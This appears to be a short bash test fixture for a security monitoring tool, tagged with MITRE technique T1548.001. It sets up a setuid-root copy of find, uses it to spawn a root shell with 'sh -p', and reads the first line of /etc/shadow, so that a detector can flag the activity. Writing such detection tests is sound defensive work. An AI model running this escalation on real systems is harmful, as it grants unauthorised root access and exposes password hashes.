#!/usr/bin/env bash
# tactic: privilege-escalation
# technique: T1548.001 Abuse Elevation Control Mechanism: Setuid and Setgid
# behaviour: a user abuses a misconfigured set-uid copy of find to start a shell that keeps root privileges (sh -p)
# as: user
# setup: install -m 4755 -o root /usr/bin/find "$SNTL_FIX/find"
# expect: privilege_escalation, unusual_child
set -u
"$SNTL_FIX/find" . -maxdepth 0 -exec /bin/sh -p -c 'id; cat /etc/shadow | head -1' \;
